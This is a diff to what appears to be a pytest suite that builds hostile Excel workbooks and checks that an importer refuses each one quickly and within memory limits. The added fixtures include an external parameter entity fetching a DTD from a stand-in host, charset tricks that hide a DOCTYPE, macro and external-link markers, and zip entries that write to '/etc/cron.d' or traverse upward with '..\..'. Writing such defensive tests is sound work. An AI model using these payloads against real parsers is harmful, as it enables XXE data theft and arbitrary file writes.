@@ -77,6 +77,52 @@ def wide_declaration() -> bytes:
     return rebuilt({SHEET: '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x []>'.encode("utf-16")})
 
 
+def parameter_entity() -> bytes:
+    declared = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % a SYSTEM "http://198.51.100.7/x.dtd"> %a;]>'
+    return rebuilt({"xl/workbook.xml": (declared + "<workbook/>").encode()})
+
+
+def split_declaration() -> bytes:
+    return rebuilt({SHEET: b" " * ((1 << 20) - 5) + b"<!DOCTYPE x []>" + BODY.format("").encode()})
+
+
+def declaration_in_ebcdic() -> bytes:
+    return rebuilt({SHEET: '<?xml version="1.0" encoding="cp037"?><!DOCTYPE x []><worksheet/>'.encode("cp037")})
+
+
+def declaration_in_utf_7() -> bytes:
+    return rebuilt({SHEET: b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x []+AD4-<worksheet/>'})
+
+
+def declaration_in_utf_32() -> bytes:
+    return rebuilt({SHEET: "<!DOCTYPE x []><worksheet/>".encode("utf-32-be")})
+
+
+def macros_announced() -> bytes:
+    with zipfile.ZipFile(io.BytesIO(plain())) as archive:
+        types = archive.read("[Content_Types].xml")
+    wanted = types.replace(
+        b"openxmlformats-officedocument.spreadsheetml.sheet.main", b"ms-excel.sheet.macroEnabled.main"
+    )
+    return rebuilt({"[Content_Types].xml": wanted})
+
+
+def external_link() -> bytes:
+    return rebuilt({"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})
+
+
+def data_connection() -> bytes:
+    return rebuilt({"xl/connections.xml": b"<connections/>"})
+
+
+def absolute_path() -> bytes:
+    return rebuilt({"/etc/cron.d/x": b"* * * * *"})
+
+
+def path_of_windows() -> bytes:
+    return rebuilt({"..\\..\\x.exe": b"MZ"})
+
+
 def macro() -> bytes:
     return rebuilt({"xl/vbaProject.bin": b"Attribute VB_Name"})
 
@@ -131,6 +177,16 @@ HOSTILE: tuple[tuple[Callable[[], bytes], str], ...] = (
     (billion_laughs, "workbook-declarations"),
     (external_entity, "workbook-declarations"),
     (wide_declaration, "workbook-declarations"),
+    (parameter_entity, "workbook-declarations"),
+    (split_declaration, "workbook-declarations"),
+    (declaration_in_ebcdic, "workbook-declarations"),
+    (declaration_in_utf_7, "workbook-declarations"),
+    (declaration_in_utf_32, "workbook-declarations"),
+    (macros_announced, "workbook-macro"),
+    (external_link, "workbook-macro"),
+    (data_connection, "workbook-macro"),
+    (absolute_path, "workbook-paths"),
+    (path_of_windows, "workbook-paths"),
     (macro, "workbook-macro"),
     (encrypted_member, "workbook-encrypted"),
     (encrypted_workbook, "workbook-old-or-encrypted"),
@@ -144,7 +200,7 @@ HOSTILE: tuple[tuple[Callable[[], bytes], str], ...] = (
 
 
 @pytest.mark.parametrize(("make", "code"), HOSTILE, ids=lambda value: getattr(value, "__name__", ""))
-def test_a_hostile_workbook_is_refused_in_time_and_space(make: Callable[[], bytes], code: str) -> None:
+def test_p30_p31_a_hostile_workbook_is_refused_in_time_and_space(make: Callable[[], bytes], code: str) -> None:
     content = make()
     before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
     started = time.monotonic()
